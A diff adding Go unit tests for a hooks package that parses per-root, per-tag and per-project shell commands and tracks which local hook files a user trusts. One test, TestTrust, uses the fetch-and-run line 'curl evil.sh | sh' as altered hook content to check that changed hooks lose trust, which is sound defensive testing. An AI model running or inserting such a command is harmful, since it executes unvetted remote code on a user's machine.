@@ -0,0 +1,151 @@
+package hooks
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const hooksFile = `
+# Runs after every jump
+echo global
+
+[root /work]
+git fetch --quiet
+
+[tag node]
+nvm use
+
+[project /work/api]
+source .venv/bin/activate
+
+[global]
+echo last global
+`
+
+func TestParse(t *testing.T) {
+	hooks, err := Parse(strings.NewReader(hooksFile))
+
+	require.NoError(t, err)
+	assert.Equal(t, []Hook{
+		{Scope: ScopeGlobal, Command: "echo global"},
+		{Scope: ScopeRoot, Target: "/work", Command: "git fetch --quiet"},
+		{Scope: ScopeTag, Target: "node", Command: "nvm use"},
+		{Scope: ScopeProject, Target: "/work/api", Command: "source .venv/bin/activate"},
+		{Scope: ScopeGlobal, Command: "echo last global"},
+	}, hooks)
+}
+
+func TestParse_home(t *testing.T) {
+	home, err := os.UserHomeDir()
+	require.NoError(t, err)
+
+	hooks, err := Parse(strings.NewReader("[root ~/work]\nls"))
+
+	require.NoError(t, err)
+	assert.Equal(t, filepath.Join(home, "work"), hooks[0].Target)
+}
+
+func TestParse_invalidSection(t *testing.T) {
+	tests := map[string]string{
+		"unknown scope":   "[branch main]",
+		"global target":   "[global /work]",
+		"missing root":    "[root]",
+		"missing tag":     "[tag ]",
+		"missing project": "[project]",
+	}
+	for name, file := range tests {
+		t.Run(name, func(t *testing.T) {
+			_, err := Parse(strings.NewReader("ls\n" + file))
+
+			assert.ErrorContains(t, err, "Invalid section on line 2")
+		})
+	}
+}
+
+func TestCommands(t *testing.T) {
+	hooks, err := Parse(strings.NewReader(hooksFile))
+	require.NoError(t, err)
+
+	assert.Equal(t,
+		[]string{"echo global", "echo last global", "git fetch --quiet", "nvm use", "source .venv/bin/activate"},
+		Commands(hooks, "/work/api", []string{"node"}),
+		"Should order the hooks from general to specific")
+	assert.Equal(t,
+		[]string{"echo global", "echo last global", "git fetch --quiet"},
+		Commands(hooks, "/work/web/", nil))
+	assert.Equal(t,
+		[]string{"echo global", "echo last global"},
+		Commands(hooks, "/workshop", nil),
+		"Should only match roots on whole directories")
+}
+
+func TestReadFile_missing(t *testing.T) {
+	hooks, err := ReadFile(filepath.Join(t.TempDir(), "hooks"))
+
+	assert.NoError(t, err)
+	assert.Empty(t, hooks)
+}
+
+func TestReadTags(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "tags")
+	require.NoError(t, os.WriteFile(path, []byte("/work/web/;node, frontend\n# comment\n/work/api;python\nbroken line\n"), 0644))
+
+	tags, err := ReadTags(path)
+
+	require.NoError(t, err)
+	assert.Equal(t, map[string][]string{
+		"/work/web": {"node", "frontend"},
+		"/work/api": {"python"},
+	}, tags)
+}
+
+func TestReadLocal(t *testing.T) {
+	project := t.TempDir()
+	content, commands, err := ReadLocal(project)
+	require.NoError(t, err)
+	assert.Nil(t, content, "Should have no content without a hooks file")
+	assert.Empty(t, commands)
+
+	require.NoError(t, os.WriteFile(filepath.Join(project, LocalFileName), []byte("# setup\nmake deps\n"), 0644))
+	content, commands, err = ReadLocal(project)
+
+	require.NoError(t, err)
+	assert.Equal(t, "# setup\nmake deps\n", string(content))
+	assert.Equal(t, []string{"make deps"}, commands)
+}
+
+func TestTrust(t *testing.T) {
+	trustPath := filepath.Join(t.TempDir(), "trusted")
+	project := "/work/odd;name"
+	content := []byte("make deps\n")
+
+	trusted, err := Trusted(trustPath, project, content)
+	require.NoError(t, err)
+	assert.False(t, trusted, "Should not trust hooks by default")
+
+	require.NoError(t, Trust(trustPath, project, content))
+	trusted, err = Trusted(trustPath, project, content)
+	require.NoError(t, err)
+	assert.True(t, trusted)
+
+	trusted, err = Trusted(trustPath, project, []byte("curl evil.sh | sh\n"))
+	require.NoError(t, err)
+	assert.False(t, trusted, "Should not trust changed hooks")
+
+	info, err := os.Stat(trustPath)
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0600), info.Mode().Perm())
+	entries, err := os.ReadDir(filepath.Dir(trustPath))
+	require.NoError(t, err)
+	assert.Len(t, entries, 1, "Should not leave a temporary file behind")
+
+	require.NoError(t, Revoke(trustPath, project))
+	trusted, err = Trusted(trustPath, project, content)
+	require.NoError(t, err)
+	assert.False(t, trusted, "Should not trust revoked hooks")
+}